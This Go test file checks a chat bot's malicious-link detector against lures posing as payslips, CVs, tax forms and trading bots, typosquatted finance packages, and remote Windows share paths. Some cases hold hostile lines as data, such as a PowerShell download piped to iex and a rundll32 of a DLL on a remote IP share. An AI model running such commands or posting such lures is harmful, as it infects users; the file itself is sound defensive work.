package bot_test

import "testing"

// TestMal48WorkPapers: a payslip, a CV, a contract, a W-2 or a trading
// EA as an archive, a program or an EA where anyone puts files is
// flagged; a CV as a PDF, a shared document and a project's release are
// not (mal48).
func TestMal48WorkPapers(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"payslip https://1drv.ms/u/s!AkPayslip_March_2026.zip", true},
		{"the contract https://www.mediafire.com/file/b7c6d5/Employment_Contract_Signed.rar/file", true},
		{"tax form https://gofile.io/d/Ab12Cd/W2_Form_2026.zip", true},
		{"ea https://www.mediafire.com/file/t4r5e6/Gold_Scalper_EA.ex5/file", true},
		{"bảng lương https://www.mediafire.com/file/r3e4w5/BangLuong_T12.rar/file", true},
		{"the task https://hiring-files-2026.s3.amazonaws.com/Interview_Task.zip", true},
		{"my cv as a pdf https://www.dropbox.com/s/c1v2b3/Resume_Jane_Doe.pdf?dl=0", false},
		{"payslip template https://docs.google.com/spreadsheets/d/1PayslipTemplate/edit", false},
		{"invoices https://github.com/invoiceninja/invoiceninja/releases/download/v5.10.0/invoiceninja.zip", false},
	})
}

// TestMal48WorkShares: a share's download by an id beside a work paper's
// or a trading tool's words, in the message or in its own path, warns; a
// Drive preview of a CV and a share of photos do not (mal48).
func TestMal48WorkShares(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"payslips for this month https://drive.google.com/uc?export=download&id=1aQ9zXk", true},
		{"docs https://drive.google.com/uc?export=download&id=1Salary_Review_Q1_pz", true},
		{"the offer letter https://wetransfer.com/downloads/91ac2e/a7b3c1", true},
		{"free forex robot for mt5 https://pixeldrain.com/u/Fx72Ka", true},
		{"hồ sơ ứng viên đây https://gofile.io/d/Zq81Lm", true},
		{"here's my CV if anyone's hiring https://drive.google.com/file/d/1aBcDeFgHiJkL/view?usp=sharing", false},
		{"photos from the shoot https://wetransfer.com/downloads/abc123def456/xyz789", false},
		{"the clips https://gofile.io/d/Ab3dEf", false},
	})
}

// TestMal48WorkAccountsAndSites: a program, an archive or a script under
// a forge account named for payroll, tax or trading, or from a
// stranger's site named for a work tool, is flagged; vendors' own
// installers are not (mal48).
func TestMal48WorkAccountsAndSites(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"refund https://github.com/irs-tax-refund-tools/refund-calc/releases/latest/download/Tax_Refund_Tool.exe", true},
		{"run iwr https://raw.githubusercontent.com/payroll-sync-team/scripts/main/install.ps1 | iex", true},
		{"bot https://github.com/fx-gold-signals/scalper/releases/download/v3/GoldScalperEA.zip", true},
		{"before your shift https://staffhub-timeclock.net/TimeClockSetup.exe", true},
		{"device agent https://employee-device-agent.com/DeviceAgent_x64.exe", true},
		{"zoom https://zoom.us/client/latest/ZoomInstallerFull.exe", false},
		{"keepass https://github.com/keepassxreboot/keepassxc/releases/download/2.7.9/KeePassXC-2.7.9-Win64.msi", false},
		{"stripe cli https://github.com/stripe/stripe-cli/releases/download/v1.21.8/stripe_1.21.8_windows_x86_64.zip", false},
	})
}

// TestMal48FinanceTypos: a letter added at a finance package's end, a
// short one's last letter doubled, a near-miss of a finance package
// mal47's lists lacked, and a vendor's npm scope with a word added warn;
// the real packages do not (mal48).
func TestMal48FinanceTypos(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"`pip install requests-toolbelts` https://pypi.org/project/requests-toolbelts/", true},
		{"`pip install binance-conector` https://example.com/docs", true},
		{"`pip install ccxtt` https://github.com/ccxt/ccxt", true},
		{"`npm i @stripe-js/sdk` https://www.npmjs.com/package/@stripe-js/sdk", true},
		{"page https://www.npmjs.com/package/@slack-client/bolt", true},
		{"`pip install requests-toolbelt` https://pypi.org/project/requests-toolbelt/", false},
		{"`pip install binance-connector` https://pypi.org/project/binance-connector/", false},
		{"`npm i @slack/bolt` https://www.npmjs.com/package/@slack/bolt", false},
		{"`npm i @stripe/stripe-js` https://www.npmjs.com/package/@stripe/stripe-js", false},
		{"`pip install ccxt` https://github.com/ccxt/ccxt", false},
	})
}

// TestMal48UNCShares: a Windows path to a share on the Internet that
// names a program, or is given to a Windows runner, is flagged though
// the message holds no link; a file server's path on the office network
// and a local Windows path are not (mal48).
func TestMal48UNCShares(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{`open the file \\185.22.14.9\share\Offer_Letter.lnk to accept`, true},
		{`run rundll32 \\45.133.20.7\docs\Payslip.dll,Start to view your payslip`, true},
		{`open \\docs-share.online@SSL\DavWWWRoot\Invoice.pdf.lnk`, true},
		{`msiexec /i \\fileserver\software\app.msi /qn`, false},
		{`copy it to \\10.0.0.5\share\setup.exe`, false},
		{`the path is \\nas.local\media\movie.mkv`, false},
		{`I started copying \\203.0.113.5\share\photos today`, false},
	})
}

// TestMal48ForgeProjectsAndEAs: a work paper's archive in a stranger's
// release is flagged, a project's named for the paper is not; a
// MetaTrader program on a file host is flagged whatever its name
// (mal48).
func TestMal48ForgeProjectsAndEAs(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"payslip https://github.com/acme-files/docs/releases/download/v1/Payslip_March.zip", true},
		{"indicator https://www.mediafire.com/file/a1b2c3/SuperTrend.ex4/file", true},
		{"cv https://github.com/posquit0/Awesome-CV/releases/download/v1.0/cv.zip", false},
		{"resume template https://github.com/jdoe/resume/releases/download/v1/resume.zip", false},
	})
}
